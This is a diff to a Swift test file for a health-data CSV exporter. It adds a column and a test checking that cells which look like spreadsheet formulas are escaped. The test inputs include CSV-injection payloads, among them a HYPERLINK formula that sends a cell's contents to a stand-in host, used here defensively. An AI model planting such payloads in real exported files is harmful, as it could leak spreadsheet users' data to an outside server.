@@ -34,13 +34,37 @@ struct SampleTableWriterTests {
     #expect(
       try await Self.written(.csv)
         == [
-          "type,start,end,value,unit,constant,source,sourceIdentifier,sourceVersion,device,created,metadata",
+          "type,start,end,value,unit,constant,source,sourceIdentifier,sourceVersion,device,created,metadata,clinicalDate",
           "HKQuantityTypeIdentifierBodyMass,2024-01-01T09:00:00Z,2024-01-01T09:00:00Z,68.39,kg,,"
             + "\"Scale, \"\"big\"\"\",\(identifier)Scale%2C%20%22big%22,,,2024-01-01T10:00:00Z,"
-            + "\"{\"\"HKWasUserEntered\"\":\"\"1\"\"}\"",
+            + "\"{\"\"HKWasUserEntered\"\":\"\"1\"\"}\",",
           "HKCategoryTypeIdentifierSleepAnalysis,2024-01-01T22:00:00Z,2024-01-02T00:00:00Z,5,,"
-            + "HKCategoryValueSleepAnalysisAsleepREM,Watch,\(identifier)Watch,,,,", "",
+            + "HKCategoryValueSleepAnalysisAsleepREM,Watch,\(identifier)Watch,,,,,", "",
         ].joined(separator: "\r\n"))
+  }
+
+  @Test(
+    "No text of CSV is a formula, unless exact texts are asked for",
+    arguments: [
+      "=HYPERLINK(&quot;http://elsewhere.example/?&quot;&amp;A1)", "+1", "-1", "@SUM(A1)", "&#9;=1",
+      "&#13;=1",
+      "＝1",
+    ])
+  func formulas(name: String) async throws {
+    let store = MemoryStore()
+    let body = Self.body.replacing("Scale, &quot;big&quot;", with: name).replacing("kg", with: "lb")
+    _ = try await HealthExportImporter().run(HealthExportImporterTests.archive(body), into: store)
+    var tables: [String] = []
+    for isExact in [false, true] {
+      var bytes: [UInt8] = []
+      try await SampleTableWriter(.csv, exactText: isExact).write(store, [.init(.bodyMass)]) { bytes += $0 }
+      let row = try #require(CSVTable(parsing: String(decoding: bytes, as: UTF8.self)).rows.first)
+      #expect(row["value"] == "68.39")
+      tables.append(try #require(row["source"]))
+    }
+    #expect(tables[0] == "'" + tables[1])
+    let exact = try await store.samples(of: .bodyMass).first?.provenance.sourceRevision?.source.name
+    #expect(tables[1] == exact)
   }
 
   @Test("CSV is read again by the strict reader")
